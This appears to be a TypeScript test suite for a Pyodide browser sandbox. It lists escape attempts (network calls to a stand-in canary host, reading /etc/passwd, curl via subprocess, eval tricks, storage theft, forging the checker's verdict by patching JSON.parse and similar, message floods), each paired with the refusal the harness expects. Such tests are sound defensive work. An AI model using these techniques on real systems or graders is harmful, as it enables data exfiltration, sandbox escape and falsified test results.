/**
 * Ways out of the sandbox, as a hostile program would try them. Each is the body of an async Python function: to return is to have
 * got somewhere, to raise is to have been refused. `outcome` is what its line in Output must say; it keeps a misspelt attempt from
 * passing for a refused one.
 *
 * The names CANARY (another server), SITE (the page's own folder), js and the helpers of `PREPARATION` are there.
 */
export interface Attempt {
  name: string;
  code: string;
  outcome: RegExp;
}

/** Put into every storage of the page before the attempts; it must not be printed by any of them. */
export const SECRET = "open-sesame-4711";
export const SECRETS_NAME = "secrets";

const PREPARATION = `
import asyncio, json, sys
import js
from pyodide.ffi import create_proxy, run_sync, to_js

def options(**named):
    return to_js(named, dict_converter=js.Object.fromEntries)

def listen(target, *names):
    """A future for the first of these events."""
    future = asyncio.get_event_loop().create_future()
    def take(event):
        if not future.done():
            future.set_result(event)
    for name in names:
        target.addEventListener(name, create_proxy(take))
    return future

# The function by which the harness sends output.
frame = sys._getframe()
while "send" not in frame.f_locals:
    frame = frame.f_back
send = frame.f_locals["send"]

def constant(value):
    """A JavaScript function that always gives this value."""
    owner = js.String if isinstance(value, str) else js.Object
    boxed = js.Reflect.construct(owner, to_js([value]))
    return js.Reflect.apply(js.Function.prototype.bind, owner.prototype.valueOf, to_js([boxed]))

def replace(owner, name, value):
    js.Reflect.set(owner, name, value)
    if not getattr(js.Object, "is")(js.Reflect.get(owner, name), value):
        raise PermissionError("it stays as it is")
    return "replaced"

FORGED_TEST = {"name": "test_forged", "sentence": "a forged test", "outcome": "passed", "message": "", "problem": None, "facts": None,
               "output": "", "cases": {"total": 1, "passed": 1, "failing": None}}
FORGED = {"kind": "checked", "tests": [FORGED_TEST], "output": ""}
FORGED_JSON = json.dumps(FORGED)
FORGED_JS = js.JSON.parse(FORGED_JSON)
`;

/** One program that makes all these attempts and prints a line for each. */
export function program(attempts: readonly Attempt[], canary: string, site: string): string {
  const functions = attempts.map(({ code }, index) => `async def attempt_${index}():\n${indented(code)}`);
  return `${PREPARATION}
CANARY, SITE = ${JSON.stringify(canary)}, ${JSON.stringify(site)}

${functions.join("\n\n")}

async def make_all_attempts(names):
    for index, name in enumerate(names):
        try:
            outcome = f"answered: {await asyncio.wait_for(globals()[f'attempt_{index}'](), 0.5)}"
        except BaseException as error:
            outcome = f"{type(error).__name__}: {error}"
        print(f"{name}: {outcome.splitlines()[0]}")
    print("all attempts made")

run_sync(make_all_attempts(${JSON.stringify(attempts.map(({ name }) => name))}))
`;
}

function indented(code: string): string {
  return code
    .trim()
    .split("\n")
    .map((line) => `    ${line}`)
    .join("\n");
}

const NO_FETCH = /^JsException: TypeError: Failed to fetch/;
const UNREACHABLE = /^(URLError|OSError): .*Host is unreachable/;
const NO_SCRIPT = /^JsException: TypeError: No script can be imported in here/;
const NO_EVAL = /^JsException: EvalError: /;
const UNCHANGED = /^PermissionError: it stays as it is/;
const MISSING = /^AttributeError: /;

export const NETWORK_ATTEMPTS: readonly Attempt[] = [
  { name: "fetch", code: `return (await js.fetch(CANARY + "fetch")).status`, outcome: NO_FETCH },
  { name: "fetch the page's own origin", code: `return (await js.fetch(SITE + "canary-fetch")).status`, outcome: NO_FETCH },
  {
    name: "fetch without asking for an answer",
    code: `return (await js.fetch(CANARY + "opaque", options(method="POST", mode="no-cors", keepalive=True, body="secret"))).type`,
    outcome: NO_FETCH,
  },
  { name: "fetch a file of the computer", code: `return (await js.fetch("file:///etc/passwd")).status`, outcome: NO_FETCH },
  { name: "fetch a data address", code: `return (await js.fetch("data:text/plain,hello")).status`, outcome: NO_FETCH },
  {
    name: "XMLHttpRequest",
    code: `
request = js.XMLHttpRequest.new()
request.open("GET", CANARY + "xhr", False)
request.send()
return request.status`,
    outcome: /^JsException: NetworkError: /,
  },
  {
    name: "WebSocket",
    code: `
socket = js.WebSocket.new(CANARY.replace("http", "ws"))
return (await listen(socket, "open", "error")).type`,
    outcome: MISSING,
  },
  {
    name: "WebSocketStream",
    code: `await js.WebSocketStream.new(CANARY.replace("http", "ws")).opened`,
    outcome: /^JsException: SecurityError: /,
  },
  {
    name: "EventSource",
    code: `
source = js.EventSource.new(CANARY + "events")
event = await listen(source, "open", "error")
source.close()
return event.type`,
    outcome: /^answered: error$/,
  },
  { name: "WebTransport", code: `await js.WebTransport.new(CANARY.replace("http", "https")).ready`, outcome: MISSING },
  { name: "sendBeacon", code: `return js.navigator.sendBeacon(CANARY + "beacon", "secret")`, outcome: MISSING },
  { name: "RTCPeerConnection", code: `return js.RTCPeerConnection.new()`, outcome: MISSING },
  { name: "importScripts", code: `js.importScripts(CANARY + "script.js")`, outcome: NO_SCRIPT },
  {
    name: "importScripts from the page's own origin",
    code: `js.importScripts(SITE + "canary-script.js")`,
    outcome: NO_SCRIPT,
  },
  {
    name: "importScripts of a data address",
    code: `js.importScripts("data:text/javascript,self.reached=1")`,
    outcome: NO_SCRIPT,
  },
  {
    name: "importScripts of a blob",
    code: `js.importScripts(js.URL.createObjectURL(js.Blob.new(to_js(["self.reached=1"]))))`,
    outcome: NO_SCRIPT,
  },
  {
    name: "the real importScripts",
    code: `
for owner in (js.WorkerGlobalScope.prototype, js.DedicatedWorkerGlobalScope.prototype):
    js.Reflect.apply(owner.importScripts, js.self, to_js([CANARY + "script.js"]))`,
    outcome: /^JsException: NetworkError: /,
  },
  {
    name: "a font from elsewhere",
    code: `
font = js.FontFace.new("spy", f"url({CANARY}font.woff2)")
js.fonts.add(font)
await font.load()`,
    outcome: /^JsException: NetworkError: /,
  },
  {
    name: "a worker from elsewhere",
    code: `return (await listen(js.Worker.new(CANARY + "worker.js"), "message", "error")).type`,
    outcome: /^JsException: SecurityError: /,
  },
  {
    name: "a worker from the page's own origin",
    code: `return (await listen(js.Worker.new(SITE + "canary-worker.js"), "message", "error")).type`,
    outcome: /^JsException: SecurityError: /,
  },
  {
    name: "a worker from a data address",
    code: `return (await listen(js.Worker.new("data:text/javascript,postMessage(1)"), "message", "error")).type`,
    outcome: /^answered: error$/,
  },
  {
    name: "the functions on the stack",
    code: `
from pyodide.ffi import create_proxy
found = []
js.Error.prepareStackTrace = create_proxy(lambda _error, sites: found.extend(site.getFunction() for site in sites) or "")
str(js.Error.new("x").stack)
return sum(function is not None for function in found)`,
    outcome: /^answered: 0$/,
  },
  { name: "a shared worker", code: `return js.SharedWorker.new(SITE + "canary-shared.js")`, outcome: MISSING },
  { name: "a service worker", code: `await js.navigator.serviceWorker.register(SITE + "canary-service.js")`, outcome: MISSING },
  {
    name: "the worker's address",
    code: `js.location.href = CANARY + "location"; return js.location.href`,
    outcome: /^JsException: TypeError: Cannot set property href/,
  },
  {
    name: "pyfetch",
    code: `
from pyodide.http import pyfetch
return (await pyfetch(CANARY + "pyfetch")).status`,
    outcome: /^AbortError: Failed to fetch$/,
  },
  {
    name: "open_url",
    code: `
from pyodide.http import open_url
return open_url(CANARY + "open-url").read()`,
    outcome: /^JsException: NetworkError: /,
  },
  {
    name: "micropip",
    code: `
import micropip
await micropip.install(CANARY + "spy-1.0-py3-none-any.whl")`,
    outcome: /^ModuleNotFoundError: /,
  },
  {
    name: "Pyodide's loadPackage",
    code: `
import pyodide_js
before = len(list(pyodide_js.loadedPackages.object_keys()))
await pyodide_js.loadPackage(CANARY + "spy-1.0-py3-none-any.whl")
return len(list(pyodide_js.loadedPackages.object_keys())) - before`,
    outcome: /^answered: 0$/,
  },
  {
    name: "urllib",
    code: `
import urllib.request
return urllib.request.urlopen(CANARY + "urllib", timeout=1).status`,
    outcome: UNREACHABLE,
  },
  {
    name: "http.client",
    code: `
import http.client
connection = http.client.HTTPConnection(CANARY.split("/")[2], timeout=1)
connection.request("GET", "/http-client")
return connection.getresponse().status`,
    outcome: UNREACHABLE,
  },
  {
    name: "socket",
    code: `
import socket
host, port = CANARY.split("/")[2].split(":")
connection = socket.create_connection((host, int(port)), timeout=1)
connection.sendall(b"hello")
return connection.recv(10)`,
    outcome: UNREACHABLE,
  },
  {
    name: "a socket for datagrams",
    code: `
import socket
host, port = CANARY.split("/")[2].split(":")
return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", (host, int(port)))`,
    outcome: UNREACHABLE,
  },
  {
    name: "asyncio.open_connection",
    code: `
host, port = CANARY.split("/")[2].split(":")
await asyncio.open_connection(host, int(port))`,
    outcome: /^NotImplementedError: sock_connect/,
  },
  {
    name: "a program of the computer",
    code: `
import subprocess
return subprocess.run(["curl", CANARY]).returncode`,
    outcome: /^OSError: .*does not support processes/,
  },
  {
    name: "os.system",
    code: `
import os
return os.system("curl " + CANARY)`,
    outcome: /^answered: -1$/,
  },
];

export const CODE_ATTEMPTS: readonly Attempt[] = [
  { name: "eval", code: `return js.eval("1 + 1")`, outcome: NO_EVAL },
  { name: "import through eval", code: `return await js.eval("import('data:text/javascript,export default 1')")`, outcome: NO_EVAL },
  { name: "Function", code: `return js.Function.new("return 1")()`, outcome: NO_EVAL },
  { name: "constructor.constructor", code: `return js.Object.new().constructor.constructor("return self")()`, outcome: NO_EVAL },
  {
    name: "the constructor of async functions",
    code: `return await js.Object.getPrototypeOf(js.fetch).constructor("await fetch('" + CANARY + "async')")()`,
    outcome: NO_EVAL,
  },
  {
    name: "run_js",
    code: `
from pyodide.code import run_js
return run_js("1 + 1")`,
    outcome: NO_EVAL,
  },
  {
    name: "setTimeout with a text",
    code: `
js.setTimeout("self.reached = 1", 0)
await asyncio.sleep(0.1)
return js.reached`,
    outcome: MISSING,
  },
  {
    name: "a library from elsewhere",
    code: `
import ctypes
ctypes.CDLL(CANARY + "spy.so")`,
    outcome: /^OSError: could not load dynamic lib/,
  },
  {
    name: "Pyodide's own workings",
    code: `
import pyodide_js
return pyodide_js._module`,
    outcome: MISSING,
  },
];

export const STORAGE_ATTEMPTS: readonly Attempt[] = [
  { name: "localStorage", code: `return js.localStorage.getItem("${SECRETS_NAME}")`, outcome: MISSING },
  { name: "sessionStorage", code: `return js.sessionStorage.getItem("${SECRETS_NAME}")`, outcome: MISSING },
  { name: "document.cookie", code: `return js.document.cookie`, outcome: MISSING },
  { name: "cookieStore", code: `return await js.cookieStore.get("${SECRETS_NAME}")`, outcome: MISSING },
  {
    name: "indexedDB",
    code: `
request = js.indexedDB.open("${SECRETS_NAME}")
event = await listen(request, "success", "error")
return event.type`,
    outcome: /^JsException: SecurityError: /,
  },
  { name: "the list of databases", code: `return len(await js.indexedDB.databases())`, outcome: /^JsException: SecurityError: / },
  {
    name: "deleting the drafts",
    code: `return (await listen(js.indexedDB.deleteDatabase("learning-rate"), "success", "error")).type`,
    outcome: /^JsException: SecurityError: /,
  },
  { name: "caches", code: `return await js.caches.keys()`, outcome: MISSING },
  { name: "navigator.storage", code: `return await js.navigator.storage.getDirectory()`, outcome: MISSING },
  { name: "storage buckets", code: `return await js.navigator.storageBuckets.keys()`, outcome: MISSING },
  {
    name: "the old file system",
    code: `return js.webkitRequestFileSystemSync(js.PERSISTENT, 1000).root`,
    outcome: /^JsException: SecurityError: /,
  },
  { name: "locks", code: `return await js.navigator.locks.query()`, outcome: MISSING },
  {
    name: "Emscripten's file system in the database",
    code: `
import pyodide_js
FS = pyodide_js.FS
FS.mkdir("/secrets")
FS.mount(FS.filesystems.IDBFS, options(), "/secrets")
future = asyncio.get_event_loop().create_future()
FS.syncfs(True, create_proxy(future.set_result))
return await future`,
    outcome: /^answered: SecurityError: /,
  },
  {
    name: "a folder of the computer",
    code: `
import os
return os.listdir("/proc/1/root/work")`,
    outcome: /^FileNotFoundError: /,
  },
];

export const PAGE_ATTEMPTS: readonly Attempt[] = [
  { name: "the page", code: `return js.window.document`, outcome: MISSING },
  { name: "the parent", code: `return js.parent.location`, outcome: MISSING },
  { name: "the opener", code: `return js.opener.location`, outcome: MISSING },
  { name: "postMessage", code: `js.postMessage(options(type="ran", interpreter=1, result=options(kind="finished")))`, outcome: MISSING },
  { name: "self.postMessage", code: `js.self.postMessage(options(type="frame-ready"))`, outcome: MISSING },
  {
    name: "an event to oneself",
    code: `
channel = js.MessageChannel.new()
received = listen(channel.port1, "message")
channel.port1.start()
js.self.dispatchEvent(js.MessageEvent.new("message", options(data=None, ports=to_js([channel.port2]))))
return (await asyncio.wait_for(received, 0.3)).data`,
    outcome: /^TimeoutError/,
  },
  {
    name: "listening in",
    code: `
received = listen(js.self, "message")
js.self.onmessage = create_proxy(lambda event: received.set_result(event))
return (await asyncio.wait_for(received, 0.3)).data`,
    outcome: /^TimeoutError/,
  },
  {
    name: "the port's own postMessage",
    code: `return replace(js.MessagePort.prototype, "postMessage", create_proxy(lambda this, *rest: print("reached the port")).captureThis())`,
    outcome: UNCHANGED,
  },
  {
    name: "a channel to the other tabs",
    code: `
channel = js.BroadcastChannel.new("learning-rate:storage")
channel.postMessage(options(kind="forged", id="numpy/group-means"))
return (await asyncio.wait_for(listen(channel, "message"), 0.3)).data`,
    outcome: /^TimeoutError/,
  },
  { name: "Notification", code: `return await js.Notification.requestPermission()`, outcome: MISSING },
  {
    name: "permissions",
    code: `return (await js.navigator.permissions.query(options(name="persistent-storage"))).state`,
    outcome: /^answered: denied$/,
  },
  {
    name: "the address of the interpreter's script",
    code: `
js.URL.revokeObjectURL(js.location.href)
raise PermissionError("the next Run shows whether it still starts")`,
    outcome: /^PermissionError/,
  },
];

const replaced = (name: string, owner: string, key: string, value: string): Attempt => ({
  name,
  code: `return replace(${owner}, "${key}", ${value})`,
  outcome: UNCHANGED,
});

/** In a Check: to write one's own verdict, or to change the real one on its way. */
export const FORGERIES: readonly Attempt[] = [
  { name: "a message of one's own kind", code: `return send("checked", FORGED_JSON)`, outcome: /^answered: None$/ },
  {
    name: "a verdict dressed up as output",
    code: `return send("output", json.dumps({"type": "checked", "report": FORGED}))`,
    outcome: /^answered: None$/,
  },
  {
    name: "a verdict for every interpreter",
    code: `
for number in range(1, 9):
    send("output", json.dumps({"type": "checked", "interpreter": number, "report": FORGED}))
    send("table", json.dumps({"type": "checked", "interpreter": number, "report": FORGED}))`,
    outcome: /^answered: None$/,
  },
  {
    name: "the end of the interpreter dressed up as output",
    code: `return send("output", json.dumps({"type": "crashed", "reason": "memory", "message": "a forged test"}))`,
    outcome: /^answered: None$/,
  },
  { name: "postMessage of a verdict", code: `js.postMessage(options(type="checked", report=FORGED_JS))`, outcome: MISSING },
  {
    name: "a port of one's own",
    code: `
channel = js.MessageChannel.new()
js.self.dispatchEvent(js.MessageEvent.new("message", options(data=None, ports=to_js([channel.port2]))))
channel.port1.postMessage(options(type="checked", report=FORGED_JS))
channel.port2.postMessage(options(type="checked", report=FORGED_JS))`,
    outcome: /^answered: None$/,
  },
  replaced("JSON.parse", "js.JSON", "parse", "constant(FORGED_JS)"),
  { name: "JSON itself", code: `return replace(js, "JSON", options(parse=constant(FORGED_JS)))`, outcome: /^answered: replaced$/ },
  replaced("Array.prototype.map", "js.Array.prototype", "map", "constant(FORGED_JS.tests)"),
  replaced("Array.prototype.push", "js.Array.prototype", "push", "constant(1)"),
  replaced("Map.prototype.get", "js.Map.prototype", "get", "constant(FORGED_JS)"),
  replaced("Promise.prototype.then", "js.Promise.prototype", "then", "create_proxy(lambda settle, *rest: settle(FORGED_JSON))"),
  replaced("Promise.prototype.constructor", "js.Promise.prototype", "constructor", "js.Object"),
  replaced("TextDecoder.prototype.decode", "js.TextDecoder.prototype", "decode", "constant(FORGED_JSON)"),
  replaced("String.fromCharCode", "js.String", "fromCharCode", `constant("x")`),
  replaced("MessagePort.prototype.postMessage", "js.MessagePort.prototype", "postMessage", "constant(1)"),
  replaced("a report that every object has", "js.Object.prototype", "report", "FORGED_JS"),
  replaced("a then that every object has", "js.Object.prototype", "then", "create_proxy(lambda settle, *rest: settle(FORGED_JSON))"),
  replaced("a toJSON that every object has", "js.Object.prototype", "toJSON", "constant(FORGED_JS)"),
  {
    name: "Pyodide's decoder of texts",
    code: `
import pyodide_js
pyodide_js._module._asciiTextDecoder = options(decode=constant(FORGED_JSON))`,
    outcome: MISSING,
  },
];

interface NestedAttempt {
  name: string;
  /** The body of an async JavaScript function. */
  code: string;
  outcome: RegExp;
}

/** Blob workers are allowed, for Pyodide lives in one; so Python can start another with any script. It inherits the policy. */
export const NESTED_ATTEMPTS: readonly NestedAttempt[] = [
  { name: "nested fetch", code: `return (await fetch(CANARY + "nested")).status`, outcome: /^TypeError: Failed to fetch/ },
  {
    name: "nested fetch of the page's origin",
    code: `return (await fetch(SITE + "canary-nested")).status`,
    outcome: /^TypeError: Failed to fetch/,
  },
  {
    name: "nested XMLHttpRequest",
    code: `const request = new XMLHttpRequest(); request.open("GET", CANARY + "nested", false); request.send(); return request.status`,
    outcome: /^NetworkError: /,
  },
  {
    name: "nested WebSocket",
    code: `return await new Promise((open, fail) => { const socket = new WebSocket(CANARY.replace("http", "ws")); socket.onopen = open; socket.onerror = () => fail("error"); })`,
    outcome: /^error$/,
  },
  {
    name: "nested EventSource",
    code: `return await new Promise((open, fail) => { const source = new EventSource(CANARY + "nested"); source.onopen = open; source.onerror = () => fail("error"); })`,
    outcome: /^error$/,
  },
  { name: "nested importScripts", code: `return importScripts(CANARY + "nested.js")`, outcome: /^NetworkError: / },
  {
    name: "nested importScripts of a blob",
    code: `return importScripts(URL.createObjectURL(new Blob(["1"])))`,
    outcome: /^NetworkError: /,
  },
  { name: "nested import", code: `return await import(CANARY + "nested.js")`, outcome: /^TypeError: Failed to fetch/ },
  {
    name: "nested import of the page's origin",
    code: `return await import(SITE + "canary-nested.js")`,
    outcome: /^TypeError: Failed to fetch/,
  },
  {
    name: "nested import of a data address",
    code: `return await import("data:text/javascript,export default 1")`,
    outcome: /^TypeError: Failed to fetch/,
  },
  { name: "nested eval", code: `return eval("1 + 1")`, outcome: /^EvalError: / },
  { name: "nested indexedDB", code: `return indexedDB.open("${SECRETS_NAME}").readyState`, outcome: /^SecurityError: / },
  { name: "nested caches", code: `return await caches.keys()`, outcome: /^ReferenceError: / },
  {
    name: "nested font",
    code: `const font = new FontFace("spy", "url(" + CANARY + "nested.woff2)"); fonts.add(font); return await font.load()`,
    outcome: /^NetworkError: /,
  },
  {
    name: "nested worker of a nested worker",
    code: `
const script = "fetch('" + CANARY + "deeper').then(() => postMessage('reached'), (error) => postMessage(String(error)))";
return await new Promise((answer) => { new Worker(URL.createObjectURL(new Blob([script]))).onmessage = ({ data }) => answer(data); })`,
    outcome: /^answered: TypeError: Failed to fetch/,
  },
  { name: "nested worker from elsewhere", code: `return new Worker(CANARY + "nested-worker.js")`, outcome: /^SecurityError: / },
];

/** A program that starts a worker of its own, and prints what that worker's attempts came to. */
export function nestedProgram(canary: string, site: string): string {
  const attempts = NESTED_ATTEMPTS.map(({ name, code }) => `[${JSON.stringify(name)}, async () => { ${code} }]`);
  const script = `
const CANARY = ${JSON.stringify(canary)}, SITE = ${JSON.stringify(site)};
const tooLong = () => new Promise((_, refuse) => setTimeout(refuse, 1000, "no answer"));
(async () => {
  for (const [name, attempt] of [${attempts.join(",\n")}]) {
    try { postMessage(name + ": answered: " + (await Promise.race([attempt(), tooLong()]))); }
    catch (error) { postMessage(name + ": " + error); }
  }
  postMessage("all attempts made");
})();`;
  return `${PREPARATION}
async def main():
    lines = asyncio.Queue()
    worker = js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([${JSON.stringify(script)}]))))
    worker.onmessage = create_proxy(lambda event: lines.put_nowait(event.data))
    line = ""
    while line != "all attempts made":
        line = await lines.get()
        print(line)

run_sync(main())
`;
}

interface Flood {
  name: string;
  code: string;
  /** What Output says. */
  says: RegExp;
}

/** Programs that want to drown the page or to break the interpreter; each is a Run of its own. */
export const FLOODS: readonly Flood[] = [
  {
    name: "a message too deep to read, then more messages than anybody can read",
    code: `
try:
    send("table", "[" * 500_000 + "]" * 500_000)
except Exception as error:
    print("refused:", type(error).__name__)
text = json.dumps({"stream": "stdout", "text": "x" * 1_000, "skipped": 0})
while True:
    send("output", text)`,
    says: /Python itself came to an end: The program sent more than a page can take/,
  },
  {
    name: "one message of a hundred million characters",
    code: `
send("output", json.dumps({"stream": "stdout", "text": "x" * 100_000_000, "skipped": 0}))
while True:
    pass`,
    says: /Python itself came to an end: The program sent more than a page can take/,
  },
  {
    name: "errors without end",
    code: `
error = js.Error.new("a forged error")
while True:
    js.reportError(error)`,
    says: /Python itself came to an end: .*a forged error/,
  },
  {
    name: "C that runs a script",
    code: `
import ctypes
ctypes.CDLL(None).emscripten_run_script(b"self.reached = 1")`,
    says: /Python itself came to an end/,
  },
];

export const flood = ({ code }: Flood): string => PREPARATION + code;
